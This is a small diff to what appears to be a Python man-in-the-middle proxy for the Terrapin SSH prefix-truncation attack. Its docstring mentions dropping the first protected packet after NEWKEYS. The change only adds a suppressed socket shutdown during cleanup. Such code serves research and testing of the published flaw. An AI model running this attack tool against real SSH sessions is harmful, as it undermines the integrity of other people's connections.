@@ -2,6 +2,7 @@
 NEWKEYS, and its first protected packet is dropped, so that the sequence numbers fit again. https://terrapin-attack.com
 """
 
+import contextlib
 import select
 import socket
 import struct
@@ -51,6 +52,8 @@ class Terrapin(threading.Thread):
                 server.sendall(data)
         except (OSError, ValueError, struct.error, IndexError):
             pass
+        with contextlib.suppress(OSError):
+            server.shutdown(socket.SHUT_RDWR)
 
     def to_client(self, server, client):
         stream = server.makefile("rb", buffering=0)
